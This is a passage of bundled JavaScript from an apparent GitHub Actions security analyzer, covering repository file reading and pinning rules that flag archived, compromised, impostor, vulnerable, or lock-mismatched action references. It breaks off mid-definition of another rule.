var external_node_buffer_ = __nccwpck_require__(4573);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/read.js





/** Reads a text file of at most `MAX_FILE_BYTES`. Text is UTF-8, as GitHub reads it. */
function readSource(absolute, path) {
    try {
        const stats = (0,external_node_fs_.statSync)(absolute);
        // A pipe or a device may never end.
        if (!stats.isFile())
            return refused("it is no regular file");
        const { size } = stats;
        if (size > yaml/* MAX_FILE_BYTES */.gZ)
            return refused(`it has ${size} bytes, more than the ${yaml/* MAX_FILE_BYTES */.gZ} that are read`);
        const text = (0,external_node_fs_.readFileSync)(absolute, "utf8");
        // Bytes that are no UTF-8 were read as U+FFFD; the character itself is allowed, so only then the bytes are asked.
        const reason = text.includes("\ufffd") ? encodingProblem((0,external_node_fs_.readFileSync)(absolute)) : null;
        return reason === null ? { ok: true, file: new lib/* SourceFile */.sC(path, text) } : refused(reason);
    }
    catch (error) {
        return refused((0,action_kit_lib/* explain */.WE)(error));
    }
}
function refused(reason) {
    return { ok: false, reason };
}
function encodingProblem(bytes) {
    const mark = bytes.subarray(0, 2).toString("hex");
    if (mark === "fffe" || mark === "feff")
        return "it is UTF-16; GitHub reads UTF-8: save it as UTF-8";
    return (0,external_node_buffer_.isUtf8)(bytes) ? null : "it is not valid UTF-8: save it as UTF-8";
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/knowledge/facts.js + 1 modules
var facts = __nccwpck_require__(7949);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/repository.js








/** The files of one repository, read and modelled. */
class Repository {
    workflows = [];
    actions = [];
    dependabot = [];
    renovate = [];
    /** `.github/workflows/actions.lock`; null where there is none, and where it can't be relied upon. */
    lock = null;
    dockerfiles = [];
    unreadable = [];
    /** Every YAML and JSON5 file that was read. */
    documents = [];
    /** Everything that was found, whether it is read here or only looked up by name. */
    files = [];
    /** What settings pass over: it is there, and nothing more is known. */
    ignored = new Set();
    sources = new Map();
    /** What was found out about the repositories that it uses; null where nothing was asked. */
    upstream = null;
    /** What is known of the world. */
    facts = facts/* BUILT_IN_FACTS */.lH;
    #callers;
    #lockedFiles;
    /** The jobs of this repository that call one of its reusable workflows. */
    callersOf(workflow) {
        this.#callers ??= this.findCallers();
        return this.#callers.get(workflow) ?? [];
    }
    findCallers() {
        const callers = new Map();
        for (const job of this.workflows.flatMap(({ jobs }) => jobs)) {
            const called = job.kind === "reusable" && this.resolve(job.uses);
            if (called)
                callers.set(called, [...(callers.get(called) ?? []), job]);
        }
        return callers;
    }
    /** Every `uses:` of workflows and composite actions. */
    uses() {
        return [...this.workflows, ...this.actions].flatMap(usesOf);
    }
    /** Is the file there, whether it could be read or not? */
    has(path) {
        return this.files.some((file) => file.path === path) || this.ignored.has(path);
    }
    /**
     * Does GitHub take from `actions.lock` what this `uses:` of another repository comes to? A run is refused when the two
     * disagree, so no fix may change it.
     */
    isLocked(uses) {
        // What a lock says that can't be understood, nobody knows.
        if (!this.lock)
            return this.files.some(({ kind }) => kind === "actions-lock");
        this.#lockedFiles ??= this.findLockedFiles(this.lock);
        return this.#lockedFiles.has(uses.scalar.file.path);
    }
    /** The onboarded workflows, and the actions that they reach by `$/`: `./` is never followed. */
    findLockedFiles(lock) {
        const locked = new Set(this.workflows.filter(({ path }) => lock.workflows.has(path)));
        for (const unit of locked) {
            for (const { target } of usesOf(unit)) {
                const action = target.kind === "local" && target.base === "repository" ? this.action(target.path) : undefined;
                if (action)
                    locked.add(action);
            }
        }
        return new Set([...locked].map(({ path }) => path));
    }
    workflow(path) {
        return this.workflows.find((workflow) => workflow.path === path);
    }
    /** The action whose `action.yml` stands in that folder. */
    action(folder) {
        return this.actions.find((action) => action.folder === folder);
    }
    /** The action or reusable workflow of this repository that a `./` or `$/` reference names. */
    resolve(uses) {
        const { target } = uses;
        if (target.kind !== "local")
            return undefined;
        const path = (0,model/* normalizePath */.Fd)(target.path);
        return this.workflow(path) ?? this.action(path);
    }
    /**
     * The local reusable workflows and actions that a workflow or action reaches, itself first, each once: a cycle ends
     * where it closes.
     */
    reachableFrom(start) {
        const reached = new Set([start]);
        for (const unit of reached) {
            for (const uses of usesOf(unit)) {
                const target = this.resolve(uses);
                if (target)
                    reached.add(target);
            }
        }
        return reached;
    }
}
/** Every `uses:` of a workflow or action. */
function usesOf(unit) {
    if (unit.kind === "composite")
        return unit.steps.flatMap((step) => step.uses ?? []);
    if (unit.kind !== "workflow")
        return [];
    return unit.jobs.flatMap((job) => job.kind === "reusable" ? [job.uses] : job.steps.flatMap((step) => step.uses ?? []));
}
/** Reads all of a repository; what can't be read is in `unreadable`. */
async function readRepository(root, options = {}) {
    const { isIgnored = () => false, edited, only = null } = options;
    const repository = new Repository();
    // A file that belongs to no repository is read alone: its folder may be somebody's home.
    const { files, unreachable } = only === null || isRoot(root) ? discover(root) : { files: [], unreachable: [] };
    for (const { path, reason } of unreachable) {
        repository.unreadable.push(repository_unreadable(new lib/* SourceFile */.sC(path, ""), reason));
    }
    for (const found of files) {
        if (isIgnored(found.path)) {
            repository.ignored.add(found.path);
            continue;
        }
        repository.files.push(found);
        if (isModelled(found.kind))
            await readInto(repository, (0,external_node_path_.join)(root, found.path), found.path, found.kind, edited);
    }
    const known = new Set(files.flatMap(({ path, kind }) => (isModelled(kind) ? [path] : [])));
    for (const path of only ?? []) {
        if (!known.has(path))
            await readInto(repository, (0,external_node_path_.join)(root, path), path, null, edited);
    }
    return repository;
}
const MODELLED = new Set(["workflow", "action", "actions-lock", "dependabot", "renovate", "dockerfile"]);
function isModelled(kind) {
    return MODELLED.has(kind);
}
async function readInto(repository, absolute, path, kind, edited) {
    const text = edited?.get(path);
    const result = text === undefined ? readSource(absolute, path) : { ok: true, file: new lib/* SourceFile */.sC(path, text) };
    if (!result.ok) {
        repository.unreadable.push(repository_unreadable(new lib/* SourceFile */.sC(path, ""), result.reason));
        return;
    }
    await addSource(repository, result.file, kind);
}
/** Models a text that has been read; `kind` null lets its content tell what it is. */
async function addSource(repository, file, kind) {
    repository.sources.set(file.path, file);
    if (kind === "dockerfile" || (kind === null && repository_isDockerfile(file))) {
        await addDockerfile(repository, file);
        return;
    }
    const document = await parseDocument(file, kind);
    repository.documents.push(document);
    for (const problem of document.problems) {
        repository.unreadable.push({ file, start: problem.start, end: problem.end, reason: problem.message });
    }
    addModel(repository, document, kind);
}
/** Is it a Dockerfile? Its name tells, or, where that says nothing, how it begins. */
function repository_isDockerfile({ path, text }) {
    const kind = kindOf(path);
    return kind === undefined
        ? /^\ufeff?(?:[ \t]*(?:#.*)?\r?\n)*[ \t]*(?:FROM|ARG)[ \t]+\S/i.test(text)
        : kind === "dockerfile";
}
/** The nodes of a file that is YAML, or JSON5 where its kind has it so. */
async function parseDocument(file, kind) {
    return kind === "renovate" ? (await Promise.all(/* import() */[__nccwpck_require__.e(162), __nccwpck_require__.e(169)]).then(__nccwpck_require__.bind(__nccwpck_require__, 7169))).parseJson5(file) : (0,yaml/* parseYaml */.hN)(file);
}
async function addDockerfile(repository, file) {
    const { readDockerfile } = await Promise.all(/* import() */[__nccwpck_require__.e(839), __nccwpck_require__.e(658)]).then(__nccwpck_require__.bind(__nccwpck_require__, 5658));
    const result = readDockerfile(file);
    if (result.ok)
        repository.dockerfiles.push(result.dockerfile);
    else
        repository.unreadable.push({ file, start: result.start, end: result.end, reason: result.reason });
}
function addModel(repository, document, kind) {
    const { root, file } = document;
    if (root?.kind !== "map") {
        if (document.problems.length > 0)
            return;
        const reason = root ? "a mapping is expected at the top" : "it holds nothing";
        repository.unreadable.push({ file, start: root?.start ?? 0, end: root?.start ?? 0, reason });
        return;
    }
    const what = kind ?? kindByContent(root);
    if (what === null) {
        const reason = "it is no workflow, action, Dockerfile or Dependabot file";
        repository.unreadable.push({ file, start: root.start, end: root.start, reason });
        return;
    }
    if (what === "action")
        repository.actions.push((0,model/* actionOf */.qj)(document, root));
    else if (what === "actions-lock")
        addLock(repository, document, root);
    else if (what === "dependabot")
        repository.dependabot.push(new model/* Dependabot */.$q(document, root));
    else if (what === "renovate")
        repository.renovate.push(new model/* Renovate */.Tz(document, root));
    else
        repository.workflows.push(new model/* Workflow */.Wu(document, root));
}
function addLock(repository, document, root) {
    // GitHub passes over a lock that it can't read, so what can be read of a broken one pins nothing.
    // See github/gh-actions-lock, issue 125.
    if (document.problems.length > 0)
        return;
    const refusal = (0,model/* lockRefusal */.a7)(root);
    if (!refusal) {
        repository.lock = new model/* ActionsLock */.$I(document, root);
        return;
    }
    const { start, end } = refusal.node;
    repository.unreadable.push({ file: document.file, start, end, reason: refusal.message });
}
/** What a file is that stands where its place doesn't tell. */
function kindByContent(root) {
    if (root.entry("runs"))
        return "action";
    if (root.entry("updates"))
        return "dependabot";
    return root.entry("jobs") || root.entry("on") ? "workflow" : null;
}
function repository_unreadable(file, reason) {
    return { file, start: 0, end: 0, reason };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/index.js





;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/actions-lock-mismatch.js




const RELOCK = "relock with `gh actions-lock`";
/* harmony default export */ const actions_lock_mismatch = (defineRule({
    id: "actions-lock-mismatch",
    category: "pinning",
    severity: "high",
    summary: "`actions.lock` and the workflows disagree",
    risk: "GitHub runs the commits that `.github/workflows/actions.lock` names, for the workflows that it lists. Where list, entries and `uses:` disagree, the run is refused, or the lock is passed over and tags decide again what runs.",
    mend: "Run `gh actions-lock` and commit what it writes; review new commits as you would review code. The file isn't meant to be edited by hand.",
    sources: [
        "https://docs.github.com/actions/concepts/security/workflow-dependency-lockfiles",
        "https://github.com/github/actions-lockfile",
    ],
    examples: { flagged: [], silent: [] },
    workflow(workflow, report) {
        const { lock } = report.repository;
        const locked = lock?.workflows.get(workflow.path);
        if (!lock || !locked)
            return;
        for (const uses of usesOf(workflow)) {
            const { target } = uses;
            if (target.kind !== "repository")
                continue;
            const name = locked.nameOf(target);
            if (name)
                judgeEntry(uses, name, lock, report);
            else
                sayUnlisted(uses, target, locked, report);
        }
    },
    actionsLock(lock, report) {
        const { repository } = report;
        const listed = [...lock.workflows.values()].filter((locked) => sayIfGone(locked, report));
        // What a workflow itself uses was told there.
        const told = new Set(listed.flatMap((locked) => locked.covered(usesIn(repository.workflow(locked.path)))));
        for (const locked of listed)
            judgeList(locked, lock, told, report);
        for (const id of lock.reachableFrom(listed.flatMap(({ ids }) => ids))) {
            const entry = lock.dependencies.get(id);
            if (entry)
                judgeReached(entry, lock, told.has(id), report);
        }
    },
}));
/** Is what the lock knows of an action that a workflow uses as it has to be? */
function judgeEntry(uses, { id, node }, lock, report) {
    const entry = id === null ? undefined : lock.dependencies.get(id);
    const text = uses.text.trim();
    if (!entry) {
        const related = [{ place: node, message: "it is listed here" }];
        report(uses.scalar, `\`actions.lock\` lists \`${text}\` and has no entry for it: ${RELOCK}`, { related });
    }
    else if (entry.flaw) {
        const related = [{ place: entry.flaw.node, message: "its entry is here" }];
        report(uses.scalar, `The entry of \`${text}\` in \`actions.lock\` ${entry.flaw.message}: ${RELOCK}`, { related });
    }
}
function sayUnlisted(uses, target, { key }, report) {
    const message = `\`${uses.text.trim()}\` is missing from this workflow's list in \`actions.lock\`: ${RELOCK}`;
    const related = [{ place: key, message: "the list is here" }];
    // It can't run anything else all the same, and `gh actions-lock` itself only warns of it.
    report(uses.scalar, message, (0,model/* isCommit */.WM)(target.ref) ? { related, severity: "low" } : { related });
}
function sayIfGone({ key, path }, report) {
    const isThere = report.repository.has(path);
    if (!isThere)
        report(key, `There is no workflow \`${path}\`: ${RELOCK}`, { severity: "low" });
    return isThere;
}
function judgeList(locked, lock, told, report) {
    const used = usedNames(locked, lock, report.repository);
    for (const { id, node } of locked.names) {
        if (id === null)
            report(node, `This names no action at a ref: ${RELOCK}`);
        else if (!lock.dependencies.has(id) && !told.has(id))
            report(node, `\`${id}\` has no entry: ${RELOCK}`);
        else if (used && !used.has(id)) {
            report(node, `\`${locked.path}\` doesn't use \`${id}\`: ${RELOCK}`, { severity: "low" });
        }
    }
}
/**
 * What of a list is used: by the workflow, by the local actions that it runs, and, as older locks have it, by what those pull
 * in. Null for a workflow that can't be read, or not in full.
 */
function usedNames(locked, lock, repository) {
    const workflow = repository.workflow(locked.path);
    if (!workflow || workflow.document.problems.length > 0)
        return null;
    const reached = [...repository.reachableFrom(workflow)].flatMap(usesOf);
    return lock.reachableFrom(locked.covered(reached));
}
/** An entry that a listed workflow needs, directly or through others. */
function judgeReached(entry, lock, isTold, report) {
    const { flaw } = entry;
    if (!flaw)
        judgeByUpstream(entry, report);
    if (flaw && !isTold)
        report(flaw.node, `The entry of \`${entry.key.value}\` ${flaw.message}: ${RELOCK}`);
    for (const { id, node } of entry.uses) {
        if (id === null)
            report(node, `This names no action at a ref: ${RELOCK}`);
        else if (!lock.dependencies.has(id)) {
            report(node, `\`${entry.key.value}\` pulls in \`${id}\`, which has no entry: ${RELOCK}`);
        }
    }
}
/** Does the action's repository say otherwise? A short tag such as `v1` may have moved on: that is what a lock is for. */
function judgeByUpstream(entry, report) {
    const { upstream } = report.repository;
    const { target } = entry.name;
    if (!upstream || !target || entry.commit === null)
        return;
    const name = `\`${target.owner}/${target.repo}\``;
    const about = upstream.aboutOf(target);
    for (const [field, id] of [
        ["repo_id", about?.id],
        ["owner_id", about?.ownerId],
    ]) {
        if (id === undefined || id === entry.idOf(field))
            continue;
        report(entry.nodeOf(field), `${name} has another \`${field}\` today, ${id}: it may be somebody else's. ${RELOCK}`);
    }
    const today = upstream.refsOf(target)?.tags.get(target.ref);
    const isExact = versions_parseVersionTag(target.ref)?.numbers.length === 3;
    if (upstream.reachabilityOf({ ...target, ref: entry.commit }) === "unreachable") {
        report(entry.nodeOf("commit"), `No branch or tag of ${name} leads to this commit: ${RELOCK}`);
    }
    else if (isExact && today !== undefined && today !== entry.commit) {
        report(entry.nodeOf("commit"), `\`${target.ref}\` of ${name} is another commit today, \`${today}\`: ${RELOCK}`);
    }
}
function usesIn(workflow) {
    return workflow ? usesOf(workflow) : [];
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/knowledge/lists/archived-actions.js
var archived_actions = __nccwpck_require__(4153);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/pinning/witness.js


/** What is known of a reference, for who wants to look for themselves. */
function usesWitness(uses, target, upstream) {
    const { owner, repo, path, ref } = target;
    const comment = version_comment_versionComment(uses.scalar)?.version ?? null;
    const resolution = (0,model/* isCommit */.WM)(ref) ? undefined : upstream?.resolve(target);
    const found = resolution?.kind === "commit" ? resolution : undefined;
    return {
        owner,
        repo,
        path,
        ref,
        commit: (0,model/* isCommit */.WM)(ref) ? ref.toLowerCase() : (found?.commit ?? null),
        tag: found?.name ?? upstream?.versionOf(target, comment ?? undefined)?.tag ?? null,
        comment,
        source: found?.source ?? ((0,model/* isCommit */.WM)(ref) && upstream?.refsOf(target) ? "refs" : null),
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/archived-uses.js




/* harmony default export */ const archived_uses = (defineRule({
    id: "archived-uses",
    category: "pinning",
    severity: "medium",
    isZizmor: true,
    summary: "An action's repository is archived",
    risk: "Nobody mends it any more: holes stay open, and what it runs on is taken away one day.",
    mend: "Take an action that is kept up, or do the same with a script.",
    sources: ["https://docs.zizmor.sh/audits/#archived-uses"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream, facts } = report.repository;
        if (target.kind !== "repository" || !isArchived(target, upstream, facts))
            return;
        const message = `\`${target.owner}/${target.repo}\` is archived`;
        report(uses.scalar, message, { witness: usesWitness(uses, target, upstream) });
    },
}));
/** What the platform says counts more than what was known of it once. */
function isArchived(target, upstream, facts) {
    const known = facts.by(archived_actions/* default */.A, "repository").has(known_refs_keyOfSlug(target));
    return upstream?.aboutOf(target)?.isArchived ?? known;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/pin.js


/** The comment where there is none yet, and nobody asked for another. */
const DEFAULT_COMMENT = "{tag}";
/**
 * Pins a `uses:` to a commit, and says behind it what that is. Only the ref and the comment change; where no comment can
 * stand, none is written. Null for what `actions.lock` speaks for, and where the ref is written with escapes, so that its
 * place in the file isn't its text. Null, too, where an anchor gives the text to something that is no `uses:`.
 *
 * @param template the text behind `# `, with `{tag}` for the name; a comment's own style counts more
 */
function pinFix({ repository, uses, target }, { commit, name, former }, description, template = DEFAULT_COMMENT) {
    if (repository.isLocked(uses) || isUsedOtherwise(uses, repository))
        return null;
    const ref = uses.scalar.spanOf(target.refSpan.start, target.refSpan.end);
    if (uses.scalar.file.text.slice(ref.start, ref.end) !== target.ref)
        return null;
    const comment = commentEdit(uses, name, former, template);
    const pin = target.ref.toLowerCase() === commit ? [] : [{ ...ref, text: commit }];
    const edits = [...pin, ...(comment ? [comment] : [])];
    return edits.length === 0 ? null : { description, safe: true, edits };
}
/** Does an anchor give the text to more places than those that are a `uses:`? */
function isUsedOtherwise({ scalar }, repository) {
    if (!(0,yaml/* isAnchored */.rf)(scalar))
        return false;
    return repository.uses().filter((other) => other.scalar === scalar).length < 1 + (0,yaml/* aliasCount */.Gh)(scalar);
}
function commentEdit({ scalar }, name, former, template) {
    const word = version_comment_commentWord(scalar);
    const written = version_comment_versionComment(scalar) ?? (word && (word.version === name || word.version === former) ? word : null);
    if (written)
        return written.version === name ? null : { ...written.span, text: name };
    const rest = restOfLine(scalar);
    if (!rest)
        return null;
    const text = template.replaceAll("{tag}", () => name);
    // What the author wrote stays, behind the version.
    const at = rest.comment?.start ?? rest.start;
    return { start: at, end: at, text: rest.comment ? `# ${text} ` : ` # ${text}` };
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/knowledge/lists/compromised-actions.js
var compromised_actions = __nccwpck_require__(6121);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/compromised-action.js







/* harmony default export */ const compromised_action = (defineRule({
    id: "compromised-action",
    category: "pinning",
    severity: "critical",
    fixes: "unsafe",
    summary: "An action at a commit or tag that carried malware",
    risk: "What ran with it is to be taken for stolen: the secrets of the job, its token, what it built.",
    mend: "Take a version that was never touched, change the secrets of each job that ran in those days, and look at what they published.",
    sources: [
        "https://github.com/advisories/GHSA-mrrh-fwg8-r2c3",
        "https://github.com/advisories/GHSA-qmg3-hpqr-gqvc",
        "https://github.com/advisories/GHSA-69fq-xp46-6x23",
    ],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        if (target.kind !== "repository")
            return;
        const { upstream, facts } = report.repository;
        const incident = incidentOf(target, facts);
        if (!incident) {
            judgeBelow(uses, target, report);
            return;
        }
        const days = incident.from === incident.to ? `on ${incident.from}` : `from ${incident.from} to ${incident.to}`;
        const what = (0,model/* isCommit */.WM)(target.ref) ? "is malware" : `led to malware ${days}`;
        const name = `\`${target.owner}/${target.repo}@${target.ref}\``;
        report(uses.scalar, `${name} ${what} (${incident.advisory})`, {
            fix: toClean({ repository: report.repository, uses, target }, incident, upstream),
            witness: {
                ...usesWitness(uses, target, upstream),
                advisory: incident.advisory,
                from: incident.from,
                to: incident.to,
            },
        });
    },
}));
/** What it pulls in may be what carried malware. */
function judgeBelow(uses, target, report) {
    const { upstream, facts } = report.repository;
    for (const { target: below, through } of upstream?.reachedFrom(target) ?? []) {
        const incident = incidentOf(below, facts);
        if (!incident)
            continue;
        report(uses.scalar, `It pulls in \`${through.at(-1)}\`, which is malware (${incident.advisory})`, {
            witness: { ...usesWitness(uses, target, upstream), advisory: incident.advisory, chain: [...through] },
        });
        return;
    }
}
function incidentOf(target, facts) {
    return facts
        .by(compromised_actions/* default */.A, "repository")
        .get(known_refs_keyOfSlug(target))
        ?.find((incident) => (0,model/* isCommit */.WM)(target.ref)
        ? incident.commits.some((commit) => commit.toLowerCase() === target.ref.toLowerCase())
        : wasMoved(target.ref, incident));
}
function wasMoved(ref, { moved, tags, through }) {
    const version = versions_parseVersionTag(ref);
    if (!version)
        return false;
    if (moved === "all")
        return true;
    if (moved === "tags")
        return tags.includes(ref);
    const last = versions_parseVersionTag(through)?.numbers ?? [];
    // `v45` stands for all of 45.
    for (let i = 0; i < Math.min(last.length, version.numbers.length); i++) {
        const difference = version.numbers[i] - last[i];
        if (difference !== 0)
            return difference < 0;
    }
    return true;
}
function toClean(place, { fixedIn }, upstream) {
    const tag = fixedIn === "" ? undefined : upstream?.tagOfVersion(place.target, fixedIn);
    const fix = tag && pinFix(place, tag, `pin it to \`${tag.name}\`, which was never touched`);
    return fix ? { ...fix, safe: false } : null;
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/config/globs.js
var config_globs = __nccwpck_require__(6732);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/pinning/names.js


/**
 * Does a reference match one of the globs of `owner/repo[/path]`, or of `docker://image`? Names have no case. A glob of a
 * repository means all in it, too, and `*` everything.
 */
function usesMatcher(globs) {
    const matchers = globs.map((glob) => (0,config_globs/* globMatcher */.f)(glob === "*" ? "**" : glob.toLowerCase()));
    return (target) => names_namesOf(target).some((name) => matchers.some((matches) => matches(name)));
}
/** Does a reference name something of elsewhere? */
function isRemote(target) {
    return names_namesOf(target).length > 0;
}
function names_namesOf(target) {
    if (target.kind === "docker")
        return [`docker://${target.image.name}`.toLowerCase()];
    if (target.kind !== "repository")
        return [];
    const slug = known_refs_keyOfSlug(target);
    return target.path === "" ? [slug] : [slug, `${slug}/${target.path.toLowerCase()}`];
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/forbidden-uses.js



/* harmony default export */ const forbidden_uses = (defineRule({
    id: "forbidden-uses",
    category: "pinning",
    severity: "high",
    isZizmor: true,
    summary: "An action or image that the settings forbid",
    risk: "Somebody decided that this is not to be used here, or that nothing is but what is named.",
    mend: "Use another one, or have it allowed under `rules.forbidden-uses` in `.github/trustchain.yml`.",
    sources: ["https://docs.zizmor.sh/audits/#forbidden-uses"],
    options: {
        allow: (0,config_options/* textsOption */.YM)("Globs of `owner/repo[/path]` or `docker://image`: nothing else may be used"),
        deny: (0,config_options/* textsOption */.YM)("Such globs: these may not be used, even where `allow` names them"),
    },
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { allow, deny } = report.options;
        const { target } = uses;
        if (!isRemote(target))
            return;
        const message = usesMatcher(deny)(target)
            ? `\`${uses.text}\` is denied`
            : allow.length > 0 && !usesMatcher(allow)(target)
                ? `\`${uses.text}\` is not among what is allowed`
                : null;
        if (message !== null)
            report(uses.scalar, message);
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/impostor-commit.js



/* harmony default export */ const impostor_commit = (defineRule({
    id: "impostor-commit",
    category: "pinning",
    severity: "high",
    isZizmor: true,
    summary: "A pinned commit is not one of the repository's",
    risk: "GitHub answers for every commit of a repository's forks under the repository's own name. Whoever has a fork can have a commit of theirs look like one of the action's.",
    mend: "Pin to a commit that a tag or branch of the repository leads to, and look at what ran until now.",
    sources: ["https://www.chainguard.dev/unchained/what-the-fork-imposter-commits-in-github-actions-and-ci-cd"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        if (target.kind !== "repository" || !upstream || !(0,model/* isCommit */.WM)(target.ref))
            return;
        const reachability = upstream.reachabilityOf(target);
        const name = `\`${target.owner}/${target.repo}\``;
        const commit = `\`${target.ref.slice(0, 12)}\``;
        const witness = usesWitness(uses, target, upstream);
        if (reachability === "unreachable") {
            report(uses.scalar, `No branch or tag of ${name} leads to ${commit}`, { witness });
        }
        else if (reachability === "unknown") {
            const message = `Neither the default branch of ${name}, nor what the comment names, nor its newest refs lead to ${commit}; older ones were not asked`;
            report(uses.scalar, message, { confidence: "low", witness });
        }
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/known-vulnerable-actions.js






/* harmony default export */ const known_vulnerable_actions = (defineRule({
    id: "known-vulnerable-actions",
    category: "pinning",
    severity: "high",
    isZizmor: true,
    fixes: "safe",
    summary: "An action has a hole that is published",
    risk: "How to use it is known to everyone. The severity is the advisory's.",
    mend: "Take the version that mends it.",
    sources: ["https://docs.github.com/rest/security-advisories/global-advisories"],
    options: { allow: (0,config_options/* textsOption */.YM)("Ids of advisories that are known and accepted: `GHSA-…`") },
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        if (target.kind !== "repository" || !upstream)
            return;
        const version = upstream.versionOf(target, upstream.nameOn(uses, target));
        if (!version)
            return;
        const advisories = upstream
            .advisoriesOn(target, version)
            .filter(({ id }) => !report.options.allow.includes(id))
            .toSorted((a, b) => (0,lib/* compareSeverity */.zK)(a.severity, b.severity));
        const [worst] = advisories;
        if (!worst)
            return;
        const name = `\`${target.owner}/${target.repo}\` ${version.tag}`;
        report(uses.scalar, `${name} has ${advisories.length === 1 ? "a known hole" : `${advisories.length} known holes`}: ${told(advisories)}`, {
            severity: worst.severity,
            fix: toFixed({ repository: report.repository, uses, target }, advisories, upstream),
            witness: { ...usesWitness(uses, target, upstream), advisories: advisories.map(({ id }) => id) },
        });
    },
}));
function told(advisories) {
    return advisories.map(({ id, summary }) => `${id} (${summary.slice(0, 120)})`).join(", ");
}
/** To the lowest version that mends all of them. */
function toFixed(place, advisories, upstream) {
    const versions = advisories.map(({ fixedIn }) => (fixedIn === null ? undefined : versions_parseVersionTag(fixedIn)));
    if (versions.some((version) => !version))
        return null;
    const highest = versions
        .flatMap((version) => version ?? [])
        .sort(versions_compareVersions)
        .at(-1);
    const tag = highest && upstream.tagOfVersion(place.target, highest.tag);
    return tag ? pinFix(place, tag, `pin it to \`${tag.name}\`, which mends it`) : null;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/ref-confusion.js



/* harmony default export */ const ref_confusion = (defineRule({
    id: "ref-confusion",
    category: "pinning",
    severity: "medium",
    isZizmor: true,
    summary: "A ref is the name of a branch and of a tag",
    risk: "Which of the two runs depends on who resolves the name. Whoever may push a branch can put other code under the name of a release.",
    mend: "Pin to the commit that is meant; ask the action's owner to remove the branch.",
    sources: ["https://www.chainguard.dev/unchained/what-the-fork-imposter-commits-in-github-actions-and-ci-cd"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        const refs = target.kind === "repository" ? upstream?.refsOf(target) : null;
        if (target.kind !== "repository" || !refs)
            return;
        const [isTag, isBranch] = [refs.tags.has(target.ref), refs.branches.has(target.ref)];
        const name = `\`${target.owner}/${target.repo}\``;
        const message = isTag && isBranch
            ? `\`${target.ref}\` is a branch and a tag of ${name}`
            : (0,model/* isCommit */.WM)(target.ref) && (isTag || isBranch)
                ? `\`${target.ref}\` looks like a commit, and is the name of a ${isTag ? "tag" : "branch"} of ${name}`
                : null;
        if (message !== null)
            report(uses.scalar, message, { witness: usesWitness(uses, target, upstream) });
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/ref-version-mismatch.js





/* harmony default export */ const ref_version_mismatch = (defineRule({
    id: "ref-version-mismatch",
    category: "pinning",
    severity: "medium",
    isZizmor: true,
    fixes: "safe",
    summary: "The comment behind a pinned commit names another version",
    risk: "Reviewers trust the comment. Under the name of a good release another commit runs, an old one with known holes, or one that was slipped in.",
    mend: "Find out which of the two is meant. `trustchain pin-actions-to-sha --mode fix` writes the version that the commit is.",
    sources: ["https://docs.zizmor.sh/audits/#ref-version-mismatch"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        const refs = target.kind === "repository" && (0,model/* isCommit */.WM)(target.ref) ? upstream?.refsOf(target) : null;
        if (target.kind !== "repository" || !upstream || !refs)
            return;
        // Of a commit that isn't the repository's the stronger rule speaks.
        if (upstream.reachabilityOf(target) === "unreachable")
            return;
        const object = refs.tagObjects.get(target.ref.toLowerCase());
        const name = upstream.nameOn(uses, target);
        if (object !== undefined) {
            tell(uses, target, "is the id of a tag object, not of the commit that the tag names", report);
        }
        else if (name === undefined) {
            const details = { severity: "low", persona: "pedantic" };
            tell(uses, target, "has no comment that says which version it is", report, details);
        }
        else if (!refs.branches.has(name) && !isVersion(name, upstream.tagsOn(target) ?? [])) {
            const known = [...refs.tags.keys()].some((tag) => isSame(tag, name));
            const details = known ? {} : { confidence: "medium" };
            tell(uses, target, known ? `is not \`${name}\`` : `is called \`${name}\`, which is no tag there`, report, details);
        }
    },
}));
function tell(uses, target, what, report, details = {}) {
    const { repository } = report;
    const { upstream } = repository;
    const message = `\`${target.ref.slice(0, 12)}\` of \`${target.owner}/${target.repo}\` ${what}`;
    const fix = upstream && commentFix({ repository, uses, target }, upstream);
    report(uses.scalar, message, { ...details, fix, witness: usesWitness(uses, target, upstream) });
}
/** Writes what the commit is; which commit runs stays. */
function commentFix(place, upstream) {
    const { target } = place;
    const refs = upstream.refsOf(target);
    const commit = refs?.tagObjects.get(target.ref.toLowerCase()) ?? target.ref.toLowerCase();
    const version = upstream.versionOf({ ...target, ref: commit }, undefined);
    return version ? pinFix(place, { commit, name: version.tag }, "say which version the commit is") : null;
}
/** Does one of a commit's tags have that name, or a more precise one of the same version? */
function isVersion(name, tags) {
    const called = versions_parseVersionTag(name);
    return tags.some((tag) => {
        const version = versions_parseVersionTag(tag);
        return isSame(tag, name) || (called && version && standsFor(called, version));
    });
}
/** Some leave the `v` out. */
function isSame(tag, name) {
    return tag === name || tag === `v${name}`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/renamed-repository.js


/* harmony default export */ const renamed_repository = (defineRule({
    id: "renamed-repository",
